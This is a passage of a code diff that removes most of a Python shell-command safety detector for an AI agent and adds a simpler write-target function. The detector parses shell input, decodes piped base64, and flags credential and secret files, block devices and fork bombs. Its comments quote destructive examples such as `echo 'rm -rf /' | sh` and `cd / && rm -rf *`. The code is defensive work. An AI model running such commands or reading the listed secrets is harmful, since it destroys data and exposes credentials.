-        return [resolve(path)]
-    found = [resolve(path, cwd) for cwd in cwds]
-    found.append(resolve(path))
-    return found if len(found) == 2 and found[0] != found[1] else list(dict.fromkeys(found))
-
-
-def glob_candidates(paths: list) -> list[str]:
-    """Each path, and for a glob (~/.bash*, /e*/hosts, /proc/sysrq-trig*) the paths it
-    may name that the rules look for: each pattern part tried against KNOWN_PATH_NAMES
-    (a part that matches more than eight of them, such as *, stays as it is)."""
-    found = []
-    for path in paths:
-        found.append(path)
-        if _GLOB.search(path):
-            if len(path) > MAX_GLOB_CHARS:
-                raise _TooComplex(f"a glob pattern longer than {MAX_GLOB_CHARS} characters")
-            named = [""]
-            for part in path.split("/")[1:] if path.startswith("/") else path.split("/"):
-                names = [] if _EVERYTHING.fullmatch(part) else names_matching(
-                    part, KNOWN_PATH_NAMES)
-                names = names if 0 < len(names) <= 8 else [part]   # * says nothing
-                named = list(itertools.islice((f"{done}/{name}" for done in named
-                                               for name in names), 64))
-            found += [name if path.startswith("/") else name[1:] for name in named]
-    return found
-
-
-def _expand_home(path: str) -> str:
-    path = _HOME_EXPANSION.sub("${HOME}", path)         # ${HOME%/}, ${HOME:-/}: home
-    for written_as, value in _paths().variables:
-        if path == written_as or path.startswith(written_as + "/"):
-            return value + path[len(written_as):]
-    if path.startswith("~") and path[1:2] not in ("", "/", "-"):   # ~user: another
-        user, _, rest = path[1:].partition("/")                     # user's home
-        return ("/root" if user == "root" else "/home/" + user) + "/" + rest
-    return path
-
-
-_NOT_NORMAL = re.compile(r"//|/\.\.?(?:/|$)|/$")     # what normpath would change
-
-
-def written(call: Call, kinds: tuple = ("write",)) -> list[str]:
-    return [path for path, kind in call.resolved_writes if kind in kinds]
-
-
-def is_block_device(path: str) -> bool:
-    """/dev/sda, /dev/nvme0n1, /dev/mapper/x, …, also as a glob (/dev/sd?)."""
-    return bool(_BLOCK_DEVICE.match(path) or names_matching(path, _DEVICES))
-
-
-_DEVICES = tuple(sorted(("/dev/sda", "/dev/hda", "/dev/vda", "/dev/xvda", "/dev/nvme0n1",
-                         "/dev/mmcblk0", "/dev/md0", "/dev/dm-0", "/dev/loop0", "/dev/nbd0",
-                         "/dev/disk0", "/dev/mapper/x")))   # what /dev/sd? may name
-
-
-def system_file(path: str) -> bool:
-    return any(path == d or path.startswith(d + "/") for d in SYSTEM_WRITE_DIRS)
-
-
-def sensitive_file(path: str) -> bool:
-    """SSH keys, cloud credentials, shell start-up and credential files of ANY home
-    (/root/…, /home/bob/…, ~): a file name counts when the path is relative (the
-    working directory may be a home) or inside a home."""
-    if _in_secret_dir(path):
-        return True
-    if posixpath.basename(path) not in SHELL_STARTUP_FILES | CREDENTIAL_FILE_NAMES:
-        return False
-    return not path.startswith("/") or bool(_A_HOME.match(path)) or path.startswith(
-        _paths().home + "/")
-
-
-def secret_file(path: str) -> bool:
-    """What must not be read into a network command."""
-    return (_in_secret_dir(path) or path in ("/etc/shadow", "/etc/gshadow")
-            or posixpath.basename(path) in CREDENTIAL_FILE_NAMES | {".env"})
-
-
-def _in_secret_dir(path: str) -> bool:
-    padded = "/" + path.lstrip("/") + "/"
-    return any(f"/{d}/" in padded for d in SECRET_DIRS)
-
-
-KNOWN_PATH_NAMES = tuple(sorted(SYSTEM_DIRS | SHELL_STARTUP_FILES | CREDENTIAL_FILE_NAMES | {
-    "private", ".ssh", ".aws", ".gnupg", ".kube", ".docker", ".azure", ".config", "gh",
-    "gcloud", "authorized_keys", "sysrq-trigger", ".learn-hermes", ".hermes", "hosts",
-    "passwd", "shadow", "sudoers", "sudoers.d", "crontab", "systemd"}))
-
-
-def agent_state(path: str) -> bool:
-    padded = "/" + path.lstrip("/") + "/"
-    return "/.learn-hermes/" in padded or any(
-        path == d or path.startswith(d + "/") for d in _paths().state_dirs)
-
-
-def expand_braces(text: str, limit: int = 64) -> list[str]:
-    """Brace expansion, as bash does before a command sees its words: /{etc,tmp} ->
-    /etc /tmp, in order. At most `limit` results: what is left is checked as written."""
-    words, i = [text], 0 if "}" in text else 1
-    while i < len(words) and len(words) < limit:
-        match = _BRACES.search(words[i])
-        if match is None:
-            i += 1
-        else:
-            word = words[i]
-            words[i:i + 1] = [word[:match.start()] + choice + word[match.end():]
-                              for choice in match.group(1).split(",")]
-    return words
-
-
-_BRACES = re.compile(r"\{([^{},]*(?:,[^{},]*)+)\}")   # {a,b}; linear: no nested choices
-
-
-def command_writes(call: Call) -> list[tuple[str, str]]:
-    """(path, kind) for each path a command may change. Kinds: "write" (content),
-    "move" (mv's sources), "delete", "meta" (mode, owner, times, a new directory)."""
-    name, args, redirects = call.name, call.args, call.cmd.redirects
-    out = [(target.text, "write") for op, target in redirects
-           if op not in ("<", "<&", "<<<")] if redirects else []
-    if not args or name not in WRITING_COMMANDS:
-        return out
-    parsed = call.arguments
-    operands, values = parsed.operands, parsed.values
-    if name == "tee":
-        out += [(p, "write") for p in operands]
-    elif name in ("cp", "mv", "install", "ln"):
-        target = values.get("-t") or values.get("--target-directory")
-        if name == "install" and "d" in parsed.letters:
-            return out + [(p, "meta") for p in operands]
-        sources = operands if target else operands[:-1]
-        if target or len(operands) >= 2:
-            out.append((target or operands[-1], "write"))
-        if name == "mv":
-            out += [(p, "move") for p in sources]
-    elif name == "dd":
-        out += [(a[3:], "write") for a in args if a.startswith("of=")]
-    elif name in ("sed", "perl", "ruby") and (
-            "i" in parsed.letters or any(o.startswith("--in") for o in parsed.longs)):
-        has_script = any(o in values for o in ("-e", "-E", "-f", "--expression", "--file"))
-        out += [(p, "write") for p in (operands if has_script else operands[1:])]
-    elif name in ("truncate", "shred"):
-        out += [(p, "write") for p in operands]
-    elif name in ("rm", "unlink", "rmdir"):
-        out += [(p, "delete") for p in operands]
-    elif name in ("chmod", "chown", "chgrp"):           # chmod -x f: -x is the mode
-        mode_given = "--reference" in values or name == "chmod" and parsed.letters - set("cfvR")
-        out += [(p, "meta") for p in operands[0 if mode_given else 1:]]
-    elif name in ("touch", "mkdir", "mkfifo", "mknod"):
-        out += [(p, "meta") for p in operands]
-    out += [(values[o], "write") for o in OUTPUT_OPTIONS.get(name, ())
-            if values.get(o, "-") != "-"]
-    return out
-
-
-def downloaded_files(name: str, args: list) -> set[str]:
-    """The names of the files curl -o/-O or wget save (to catch `… && sh x.sh`)."""
-    parsed = split_arguments(args, TAKES_VALUE[name])
-    files = [parsed.values.get(o) for o in ("-o", "--output", "-O", "--output-document")]
-    if (name == "wget" and not any(files)) or "O" in parsed.letters or (
-            "--remote-name" in parsed.longs):
-        files += [u.split("?")[0] for u in parsed.operands]
-    return {posixpath.basename(f) for f in files if f and f != "-"}
-
-
-def piped_text(commands, depth: int = 0) -> list[str]:
-    """What commands write when that is known: echo/printf words, cat of a heredoc,
-    and `echo … | base64 -d` decoded. For `echo 'rm -rf /' | sh` and the like."""
-    texts = []
-    for earlier in commands:
-        call = earlier.call
-        if call is None:
-            continue
-        text = printed_text(call) if call.name in ("echo", "printf") else None
-        if text is not None:
-            texts.append(text)
-        elif call.name == "cat" and not call.args:
-            texts += earlier.stdin
-        elif call.name == "base64" and is_decoder(call) and depth < 3:
-            for encoded in piped_text(earlier.prev, depth + 1):
-                try:
-                    texts.append(base64.b64decode(encoded.strip()).decode("utf-8", "replace"))
-                except (binascii.Error, ValueError):
-                    pass
-    return texts
-
-
-def printed_text(call: Call) -> str | None:
-    """What echo or printf prints, when it is plain: echo [-n|-e] words, printf FORMAT
-    with backslash escapes and at most one %s. None when unsure (other % formats)."""
-    args = [_expand_home(a) if a[:1] == "~" else a for a in call.args]   # echo ~: home
-    escapes = call.name == "printf"
-    while call.name == "echo" and args and re.fullmatch(r"-[neE]+", args[0]):
-        escapes = "e" in args.pop(0)
-    if call.name == "echo":
-        text = " ".join(args)
-        return _ANSI_C_ESCAPE.sub(_ansi_c_character, text) if escapes else text
-    if not args:
-        return ""
-    percent = "\uffff"                                   # %% while %s is replaced
-    pieces = _ANSI_C_ESCAPE.sub(_ansi_c_character, args[0]).replace("%%", percent).split("%s")
-    if len(pieces) > 2 or "%" in "".join(pieces):
-        return None
-    if len(pieces) == 1:
-        return pieces[0].replace(percent, "%")
-    return "".join(pieces[0] + value + pieces[1] for value in args[1:] or [""]).replace(
-        percent, "%")
-
-
-def is_decoder(call: Call) -> bool:
-    """base64 -d, base32 -d, xxd -r, openssl … -d, and the decompressors."""
-    if call.name not in DECODERS:
-        return False
-    letters = split_arguments(call.args).letters
-    if call.name in ("base64", "base32", "basenc"):
-        return bool(letters & {"d", "D"}) or "--decode" in call.args
-    if call.name == "xxd":
-        return "r" in letters or "-revert" in call.args
-    if call.name == "openssl":
-        return "-d" in call.args
-    return True                                          # uudecode, gunzip, zcat, …
-
-
-def reads_secret(call: Call) -> bool:
-    texts = [a for a in call.args if not a.startswith("-")]
-    texts += [t.text for op, t in call.cmd.redirects if op == "<"]
-    return any(_SECRET_HINT.search(t) and secret_file(resolve(t)) for t in texts)
-
-
-_SECRET_HINT = re.compile(r"\.(?:ssh|aws|gnupg|kube|docker|azure|config|netrc|pgpass|npmrc|"
-                          r"pypirc|git-credentials|my\.cnf|env)|shadow")
-
-# ── [s09] Detector: which rules look at a command ───────────────────────────
-
-def _groups(call: Call) -> set[str]:
-    """The names in a rule's commands column that match this call."""
-    name, groups = call.name, {call.name}
-    if name in SHELLS:
-        groups |= {"<shells>", "<runs-code>"}
-    if interpreter_base(name):
-        groups |= {"<interpreters>", "<runs-code>"}
-    if name in ("source", ".", "eval", "at", "batch"):
-        groups.add("<runs-code>")
-    for group, names in (("<sql>", SQL_CLIENTS | SQL_VERBS), ("<network>", NETWORK_COMMANDS),
-                         ("<deletes>", ("rm", "find", "rsync", "shred")),
-                         ("<disk-tools>", DISK_TOOLS)):
-        if name in names:
-            groups.add(group)
-    if _MKFS.fullmatch(name):
-        groups.add("<mkfs>")
-    for group, present in (("<writes>", call.writes), ("<function>", call.cmd.func),
-                           ("<tags>", call.tags)):
-        if present:
-            groups.add(group)
-    return groups
-
-
-def _rules_for(call: Call) -> tuple:
-    key = (call.name, bool(call.writes), bool(call.cmd.func), bool(call.tags))
-    rules = _RULES_CACHE.get(key)
-    if rules is None:
-        if len(_RULES_CACHE) > 4096:
-            _RULES_CACHE.clear()
-        groups = _groups(call)
-        rules = _RULES_CACHE[key] = tuple(
-            rule for rule, names in _RULE_NAMES if not groups.isdisjoint(names))
-    return rules
-
-
-_RULES_CACHE = {}
-_RULE_NAMES = [(rule, frozenset(rule.commands.split())) for rule in DANGEROUS_PATTERNS]
-_RULE_ORDER = {rule.key: i for i, rule in enumerate(DANGEROUS_PATTERNS)}
-
-# ── [s09] Detector: the shell parser ────────────────────────────────────────
-
-class _TooComplex(Exception):
-    """The input is beyond a limit: the parser stops and the command is not "safe"."""
-
-
-class Word(NamedTuple):
-    text: str                  # as the command sees it: quoting removed, known values in
-    quoted: bool               # some of it was quoted or escaped
-    computed: bool             # some of it is known only at run time ($var, $(…), `…`)
-    subs: tuple                # the commands that run to produce it ($(…), `…`, <(…))
-
-
-class _Command:
-    """A simple command as the shell splits it, before wrappers are skipped."""
-    __slots__ = ("words", "redirects", "stdin", "upstream", "prev", "background", "func",
-                 "depth", "tags", "call", "cwds", "called", "alternatives")
-
-    def __init__(self, depth, func, upstream, prev, tags=()):
-        self.words, self.redirects, self.stdin = [], [], []   # stdin: heredoc, here-string
-        self.upstream = upstream     # names of the commands piped into it (and marks)
-        self.prev = prev             # the pipeline stage right before it
-        self.background, self.func, self.depth = False, func, depth
-        self.tags, self.call = set(tags), None
-        self.cwds = ()               # the working directories it may run in (None: unknown)
-        self.called = set()          # the functions this input calls (for fork bombs)
-        self.alternatives = []       # /bin/r? -rf ~: a Call for each command r? may name
-
-
-class _State:
-    """Shared by every parser of one input: sh -c '…' and $(…) add to the same list."""
-
-    def __init__(self, files=None):
-        self.commands, self.variables, self.downloads = [], {}, set()
-        self.tokens = 0
-        self.scripts = {}        # file name -> the echo/printf/cat/tee that wrote it
-        self.files = {} if files is None else files   # script files read from disk
-        self.cwds = (_paths().cwd,)   # cd / && rm -rf *: where the next command runs
-        self.cwd_fallback = []   # cd /x; rm …: if cd failed, rm runs where we were
-        self.ifs = " \t\n"      # IFS=, makes $x split at commas; None: unknown
-        self.aliases = {}        # alias x='rm -rf /'; x
-        self.renamed = {}        # cp /bin/rm x; ./x -rf ~: x -> rm
-        self.called = set()      # functions called outside their own body
-
-
-class _WordBuilder:
-    def __init__(self):
-        self.parts, self.quoted, self.computed, self.subs = [], False, False, []
-        self.tilde = False       # it starts with an unquoted ~ (expanded by the shell)
-        self.brace = False       # an unquoted { (brace expansion: {rm,-rf,/})
-
-    def words(self) -> list[Word]:
-        pieces, current = [], []
-        for part in self.parts:
-            if part is not _SPLIT:
-                current.append(part)
-            elif current:
-                pieces.append("".join(current))
-                current = []
-        if current or (self.quoted and not pieces):
-            pieces.append("".join(current))              # '' is an empty word
-        # A ~ that was quoted ('~', \~) or came from an expansion ($x) is a folder
-        # named ~ in the working directory, not home: written ./~ for the checks.
-        pieces = ["./" + p if p[:1] == "~" and (k or not self.tilde) else p
-                  for k, p in enumerate(pieces)]
-        if self.brace:
-            pieces = [e for p in pieces for e in expand_word_braces(p)]
-        subs = tuple(self.subs)
-        return [Word(p, self.quoted, self.computed, subs) for p in pieces]
-
-
-def expand_word_braces(text: str) -> list[str]:
-    """{rm,-rf,/} is three words to bash; an assignment a={x,y} stays one word."""
-    if "," not in text or "}" not in text or _ASSIGNMENT.match(text):
-        return [text]
-    return [word for word in expand_braces(text) if word]
-
-
-_SPLIT = object()          # a word break made by an unquoted $IFS or a value with spaces
-_BLANKS = re.compile(r"[ \t]*")
-_PLAIN = re.compile(r"[^\s'\"\\$`;&|()<>]+")
-_SIMPLE_WORD = re.compile(r"[^\s'\"\\$`;&|()<>]+(?![^\s;&|()<>])")
-_IN_DOUBLE_QUOTES = re.compile(r'[^"\\$`]+')
-_WORD_END = frozenset(" \t\n;&|()<>")
-_OPERATOR = re.compile(r";;&?|;&|;|&&|&>>?|&|\|\||\|&?|\n|<<<|<<-?|<>|<&|>>|>\||>&|<|>")
-_REDIRECTS = {"&>", "&>>", "<<<", "<<", "<<-", "<>", "<&", ">>", ">|", ">&", "<", ">"}
-_NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
-_ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*\+?=")
-_BACKTICK_BODY = re.compile(r"[^`\\]*(?:\\.[^`\\]*)*", re.S)
-_ANSI_C_STRING = re.compile(r"[^'\\]*(?:\\.[^'\\]*)*", re.S)
-_ANSI_C_ESCAPE = re.compile(r"\\(x[0-9A-Fa-f]{1,2}|u[0-9A-Fa-f]{1,4}|U[0-9A-Fa-f]{1,8}|"
-                            r"[0-7]{1,3}|c.|.)", re.S)
-_ANSI_C_LETTERS = {"n": "\n", "t": "\t", "r": "\r", "a": "\a", "b": "\b", "e": "\x1b",
-                   "E": "\x1b", "f": "\f", "v": "\v", "\\": "\\", "'": "'", '"': '"', "?": "?"}
-_BRACE_CONTENT = re.compile(r"[^{}\\]+")
-_SAFE_WORD = re.compile(r"[\w@%+=:,./~-]+")   # a quoted '~' is written ./~ already
-
-
-def _parse(text: str, files: dict | None = None) -> list[Call]:
-    """Every command the input runs, as Calls (also inside $(…), sh -c, eval, …).
-    files collects the script files it read (sh x.sh)."""
-    state = _State(files)
-    _Parser(text, state, 0).command_list(0)
-    i = 0
-    while i < len(state.commands):       # a shell's program, when known, is read too:
-        cmd, i = state.commands[i], i + 1  # heredoc, `echo … |`, <(echo …), a script file
-        for script in script_texts(cmd, state):
-            state.cwds, state.cwd_fallback = cmd.cwds, []
-            _Parser(script, state, cmd.depth + 1).command_list(0)
-    for cmd in state.commands:           # a function that calls itself is a fork bomb
-        if cmd.call and cmd.call.name != cmd.func:       # only if something calls it
-            state.called.add(cmd.call.name)
-    return [call for cmd in state.commands if cmd.call for call in [cmd.call, *cmd.alternatives]]
-
-
-def script_texts(cmd, state) -> list[str]:
-    """The program text a shell (or source, at, or ./x.sh) runs, where the input shows
-    it: a heredoc or here-string, `echo … |`, `<(echo …)`, a file the same input wrote
-    with echo, printf or cat (echo 'rm -rf /' > x.sh; sh x.sh), or a script file on disk."""
-    call = cmd.call
-    if call is None:
-        return []
-    texts = [written_text(state.scripts[call.name])] if call.name in state.scripts else []
-    if "/" in call.path:                                 # ./x.sh, /tmp/x.sh: a script?
-        texts += [t for t in read_script(call.path, cmd.cwds, state.files) if is_shell_script(t)]
-    if call.name in SHELLS:
-        mode, program = shell_program(call.args)
-    elif call.name in ("source", ".") and call.args:
-        mode, program = ("stdin", None) if program_from_stdin(call) else ("file", call.args[0])
-    elif call.name in ("at", "batch"):
-        program = call.arguments.values.get("-f")
-        mode = "file" if program else "stdin" if program_from_stdin(call) else ""
-    else:
-        return [t for t in texts if t]
-    if mode == "stdin":
-        texts += cmd.stdin + piped_text(cmd.prev)
-        for op, target in cmd.redirects:                 # sh < x.sh, sh < <(echo …)
-            if op == "<":
-                texts += piped_text(target.subs) + (
-                    [] if target.computed else read_script(target.text, cmd.cwds, state.files))
-    elif mode == "file" and program is not None:
-        operand = next((w for w in call.words if w.text == program), None)
-        writer = state.scripts.get(posixpath.basename(program))
-        texts += piped_text(operand.subs if operand else ()) + [written_text(writer)]
-        if not (operand and operand.computed):          # bash <(…) is no file on disk
-            texts += read_script(program, cmd.cwds, state.files)
-    return [t for t in texts if t]
-
-
-def written_text(writer) -> str:
-    """What echo, printf, cat or tee wrote into a file earlier in the same input (its
-    heredoc is read by now): echo 'rm -rf /' > x.sh; cat > x.sh <<EOF …; tee x.sh <<< …"""
-    if writer is None:
-        return ""
-    texts = piped_text([writer]) if writer.call.name != "tee" else []
-    return "\n".join(texts or writer.stdin + piped_text(writer.prev))
-
-
-def read_script(path: str, cwds: tuple, files: dict) -> list[str]:
-    """The text of a script file a command runs (written by an earlier tool call: the
-    detector reads the file system here). Regular files only, each once; a binary gives
-    nothing, a text over MAX_SCRIPT_BYTES is too complex (a person must look).
-    files records what was seen of each file, also "missing": it may exist next time."""
-    texts = []
-    for full in resolutions(path, cwds):
-        if not full.startswith("/") or full in files:
-            continue
-        data = files[full] = file_head(full)
-        if data is None or b"\0" in data:
-            continue                                     # missing, or a program
-        if len(data) > MAX_SCRIPT_BYTES:
-            raise _TooComplex(f"script file larger than {MAX_SCRIPT_BYTES // 1024} KiB: {path}")
-        texts.append(data.decode("utf-8", "replace"))
-    return texts
-
-
-def file_head(path: str) -> bytes | None:
-    """What the detector reads of a file: None (missing, not a regular file), the first
-    512 bytes of a program (they hold a NUL), or up to MAX_SCRIPT_BYTES + 1 bytes."""
-    try:
-        if not stat.S_ISREG(os.stat(path).st_mode):
-            return None
-        with open(path, "rb") as file:
-            data = file.read(512)
-            return data if b"\0" in data else data + file.read(MAX_SCRIPT_BYTES + 1 - len(data))
-    except (OSError, ValueError):                        # ValueError: a NUL or a lone
-        return None                                      # surrogate in the name
-
-
-def is_shell_script(text: str) -> bool:
-    """A file run by its path: a shell runs it when it has no #! line or names a shell."""
-    if not text.startswith("#!"):
-        return True
-    words = text[2:].partition("\n")[0].split()
-    if words and _command_name(words[0]) == "env":
-        words = [w for w in words[1:] if not w.startswith("-")]
-    return bool(words) and _command_name(words[0]) in SHELLS
-
-
-def _few(cwds: tuple) -> tuple:
-    """At most four possible working directories; more: unknown."""
-    cwds = tuple(dict.fromkeys(cwds))
-    return cwds if len(cwds) <= 4 else (None,)
-
-
-@functools.lru_cache(maxsize=1)
-def known_commands() -> tuple:
-    """Every command name the rules look at, for a glob command name such as r?."""
-    names = set(WRAPPERS) | SHELLS | set(INTERPRETERS) | SQL_CLIENTS | NETWORK_COMMANDS
-    names |= DECODERS | set(MKFS_NAMES) | set(DISK_TOOLS) | {"eval", "source", "at", "su"}
-    for rule in DANGEROUS_PATTERNS:
-        names |= {n for n in rule.commands.split() if not n.startswith("<")}
-    return tuple(sorted(names))
-
-
-def is_glob_name(name: str) -> bool:
-    """r?, r*, [r]m; a lone [ (the test command) is no glob. Linear: no regex here."""
-    bracket = name.find("[")
-    return "*" in name or "?" in name or bracket >= 0 and "]" in name[bracket + 1:]
-
-
-def _line_end(text: str, pos: int) -> int:
-    end = text.find("\n", pos)
-    return len(text) if end < 0 else end
-
-
-def _command_name(text: str) -> str:
-    name = text.rsplit("/", 1)[-1].lower()               # /usr/sbin/reboot -> reboot
-    return name[:-4] if name.endswith(".exe") else name
-
-
-def _quote(text: str) -> str:
-    return text if _SAFE_WORD.fullmatch(text) else "'" + text.replace("'", "'\\''") + "'"
-
-
-class _Parser:
-    """A quote-aware reader of one command line. It turns the text into _Commands in
-    state.commands, reading $(…), `…`, <(…), (…) and { …; } where they stand, and
-    sh -c / eval / su -c / ssh / find -exec payloads one level deeper."""
-
-    def __init__(self, text, state, depth, func="", tags=()):
-        if depth > MAX_NESTING_DEPTH:
-            raise _TooComplex(f"nested deeper than {MAX_NESTING_DEPTH} levels")
-        self.text, self.state, self.depth, self.func = text, state, depth, func
-        self.tags = tags         # given to every command it reads: "find" for -exec
-        self.heredocs = []       # (command, delimiter, literal?, strip tabs?) to read
-
-    def command_list(self, pos, closer="", upstream=frozenset(), prev=()):
-        """Read commands from pos up to closer (")", "}" or the end of the text);
-        return the position after it."""
-        text, state = self.text, self.state
-        commands, end_of_text = state.commands, len(text)
-        up, pv = upstream, prev
-        cmd, patterns = self._new(up, pv), False         # patterns: in case … in
-        pipeline_start = stage_start = len(commands)
-        while True:
-            if text[pos:pos + 1] in (" ", "\t"):
-                pos = _BLANKS.match(text, pos).end()
-            if pos >= end_of_text:
-                break
-            state.tokens += 1                            # self._tick(), inlined: hot
-            if state.tokens > MAX_TOKENS:
-                self._tick(0)
-            char = text[pos]
-            if char == "#":                              # a comment, to the end of the line
-                pos = _line_end(text, pos)
-                continue
-            if char == ")" and closer == ")":
-                pos += 1
-                break
-            if char == "(" and patterns and not cmd.words:
-                pos += 1                                 # case x in (a|b): an optional (
-                continue
-            if char == "(":
-                pos, cmd = self._parenthesis(pos, cmd, up, pv)
-                continue
-            if char in "<>" and text.startswith("(", pos + 1) or char not in _WORD_END:
-                words, end = self._word(pos)
-                pos = max(end, pos + 1)
-                if not words:
-                    continue
-                first = words[0]
-                if len(words) == 1 and not first.quoted and (not cmd.words or len(
-                        cmd.words) <= 2 and cmd.words[0].text == "coproc"):
-                    if first.text == "{":                # { …; } or coproc [NAME] { …; }
-                        cmd.words.clear()
-                        pos = self._group(pos, "}", up, pv)
-                        continue
-                    if first.text == "}" and closer == "}":
-                        break
-                if [w.text for w in cmd.words[:1]] == ["function"] and first.text == "{":
-                    pos, cmd = self._group(pos, "}", up, pv, cmd.words[1].text.lower()
-                                           if len(cmd.words) > 1 else ""), self._new(up, pv)
-                    continue
-                if first.text.isdigit() and len(words) == 1 and text[end:end + 1] in ("<", ">"):
-                    continue                             # 2>file: a descriptor, not a word
-                cmd.words += words
-                continue
-            operator = ";" if char == ")" else _OPERATOR.match(text, pos).group()
-            pos += len(operator)
-            if operator in _REDIRECTS:
-                pos = self._redirect(cmd, operator, pos)
-                continue
-            first_word = cmd.words[0].text if cmd.words else ""
-            if char == ")" or patterns and operator == "|":
-                cmd.words.clear()                        # case x in *|a): patterns, not
-                patterns = operator == "|"               # commands
-            elif first_word == "case" or operator in (";;", ";&", ";;&"):
-                patterns = True
-            elif first_word == "esac":
-                patterns = False
-            self._finish(cmd)
-            if operator != "&&":                         # cd /x; rm …: rm may run here
-                self._forget_failed_cd()                 # or in /x (cd may fail)
-            if operator in ("|", "|&"):
-                stage = commands[stage_start:]
-                up, pv = up | _stage_marks(stage), tuple(stage)
-                stage_start = len(commands)
-            else:
-                if operator == "&":
-                    for earlier in commands[pipeline_start:]:
-                        earlier.background = True
-                up, pv = upstream, prev
-                pipeline_start = stage_start = len(commands)
-                if operator == "\n" and self.heredocs:
-                    pos = self._read_heredocs(pos)
-            if cmd.words or cmd.redirects:
-                cmd = self._new(up, pv)
-            else:                                        # nothing there: ; ; or a blank line
-                cmd.upstream, cmd.prev = up, pv
-        self._finish(cmd)
-        return pos
-
-    def _new(self, upstream, prev):
-        return _Command(self.depth, self.func, upstream, prev, self.tags)
-
-    def _parenthesis(self, pos, cmd, up, pv):
-        """( starts a subshell, the body of `name()`, or an array `a=(…)`."""
-        text = self.text
-        names = [w.text for w in cmd.words]
-        after = _BLANKS.match(text, pos + 1).end()
-        if text.startswith(")", after) and (len(names) == 1 or names[:1] == ["function"]):
-            start = after + 1                            # name() { body; }
-            while start < len(text) and text[start] in " \t\n":
-                start += 1
-            closer = {"{": "}", "(": ")"}.get(text[start:start + 1], "")
-            if closer:
-                end = self._group(start + 1, closer, up, pv, names[-1].lower())
-                return end, self._new(up, pv)
-            return start, self._new(up, pv)
-        if names and names[-1].endswith("=") and text[pos - 1:pos] == "=":
-            end = pos + 1                                # an array: words, not commands
-            while end < len(text) and text[end] != ")":
-                self._tick()
-                end = max(self._word(_BLANKS.match(text, end).end())[1], end + 1)
-            cmd.words.pop()
-            return end + 1, cmd
-        if not names:
-            return self._group(pos + 1, ")", up, pv), cmd
-        self._finish(cmd)                                # `echo (`: not valid shell
-        return pos + 1, self._new(up, pv)
-
-    def _group(self, pos, closer, up, pv, func=None):
-        saved, cwds = self.func, self._save_cwds()
-        self.depth += 1
-        if self.depth > MAX_NESTING_DEPTH:
-            raise _TooComplex(f"nested deeper than {MAX_NESTING_DEPTH} levels")
-        if func is not None:
-            self.func = func
+    """The paths a command may create, change or delete, as written: redirect targets
+    (> and >>), the operands of the commands in PATH_WRITERS, dd's of= and sed -i's files.
+    ["*"] when a part cannot be split into words (a trailing backslash, say)."""
+    text = normalize_command(command)
+    targets = REDIRECT.findall(text)
+    for part in SHELL_SEPARATORS.split(INPUT_REDIRECT.sub(" ", REDIRECT.sub(" ", text))):
         try:
-            return self.command_list(pos, closer, up, pv)
-        finally:
-            self.depth -= 1
-            self.func = saved
-            if closer == ")":                            # a subshell: its cd stays inside
-                self._restore_cwds(cwds)
-
-    def _save_cwds(self):
-        return self.state.cwds, list(self.state.cwd_fallback)
-
-    def _restore_cwds(self, saved):
-        self.state.cwds, self.state.cwd_fallback = saved[0], saved[1]
-
-    def _forget_failed_cd(self):
-        state = self.state
-        if state.cwd_fallback:
-            state.cwds = _few(state.cwds + tuple(state.cwd_fallback))
-            state.cwd_fallback = []
-
-    def _change_directory(self, call):
-        """cd DIR, pushd DIR: the later commands run there (cd alone: home; cd -, popd,
-        cd "$X": unknown). Until an operator other than && the old one counts too."""
-        state, operands = self.state, [a for a in call.args if a not in ("-L", "-P", "-e", "-@")]
-        operands = operands[1:] if operands[:1] == ["--"] else operands
-        word = next((w for w in call.words if operands and w.text == operands[0]), None)
-        if call.name == "popd" or operands[:1] == ["-"] or (
-                word and word.computed and resolve(word.text)[:1] != "/") or (
-                operands[:1] and operands[0][:1] in ("+", "-")):
-            new = (None,)
-        else:
-            target = operands[0] if operands else _paths().home
-            new = _few(tuple(resolve(target, cwd) if cwd or target.startswith(("/", "~", "$"))
-                             else None for cwd in state.cwds))
-        state.cwd_fallback += state.cwds
-        state.cwds = new
-
-    def _redirect(self, cmd, operator, pos):
-        words, end = self._word(_BLANKS.match(self.text, pos).end())
-        if not words:
-            return end
-        target = words[0]
-        if operator in ("<<", "<<-"):
-            self.heredocs.append((cmd, target.text, target.quoted, operator == "<<-"))
-        elif operator == "<<<":
-            cmd.stdin.append(target.text)
-            cmd.redirects.append((operator, target))     # its $(curl …) counts
-        elif not (operator in (">&", "<&") and (target.text.isdigit() or target.text == "-")):
-            cmd.redirects.append((operator, target))     # 2>&1 is not a file
-        return end
-
-    def _read_heredocs(self, pos):
-        text = self.text
-        for cmd, delimiter, literal, strip_tabs in self.heredocs:
-            self._tick()
-            tabs = "\t*" if strip_tabs else ""               # <<- allows leading tabs
-            end = re.compile(f"^{tabs}{re.escape(delimiter)}$", re.M).search(text, pos)
-            body = text[pos:end.start() if end else len(text)].rstrip("\n")
-            pos = end.end() + 1 if end else len(text)
-            if not literal:                              # <<EOF expands $(…) and `…`
-                builder = _WordBuilder()
-                _Parser(body, self.state, self.depth)._double_quoted(0, builder, "")
-                body = "".join(p for p in builder.parts if p is not _SPLIT)
-            cmd.stdin.append(body)
-        self.heredocs.clear()
-        return min(pos, len(text))
-
-    def _word(self, pos):
-        """One shell word from pos: (words, end). Usually one word; an unquoted $IFS or
-        a known value with spaces splits it, as bash's word splitting would."""
-        text = self.text
-        simple = _SIMPLE_WORD.match(text, pos)           # most words: no quotes, no $
-        if simple:                                       # (command_list counted it)
-            word = simple.group()
-            if "{" in word:                              # {rm,-rf,/}: three words
-                words = expand_word_braces(word)
-                self._tick(len(words))
-                return [Word(w, False, False, ()) for w in words], simple.end()
-            return [Word(word, False, False, ())], simple.end()
-        builder, in_prefix = _WordBuilder(), False      # in_prefix: ~user before any /
-        if text.startswith(("<(", ">("), pos):          # process substitution: a pipe
-            first, start = len(self.state.commands), pos
-            pos = self._group(pos + 2, ")", frozenset(), ())
-            builder.subs += self.state.commands[first:]
-            builder.parts.append(text[start:pos])
-            builder.computed = True
-        while pos < len(text):
-            char = text[pos]
-            if char in _WORD_END:
-                break
-            self._tick()
-            plain = _PLAIN.match(text, pos)
-            if plain:
-                if not builder.parts and char == "~":    # ~/x expands; '~', $x do not
-                    builder.tilde, in_prefix = True, "/" not in plain.group()
-                elif builder.tilde and "/" in plain.group():
-                    in_prefix = False
-                builder.brace |= "{" in plain.group()
-                builder.parts.append(plain.group())
-                pos = plain.end()
-                continue
-            if builder.tilde and in_prefix:              # ~'' and ~"x": quoted, no home
-                builder.tilde = in_prefix = False
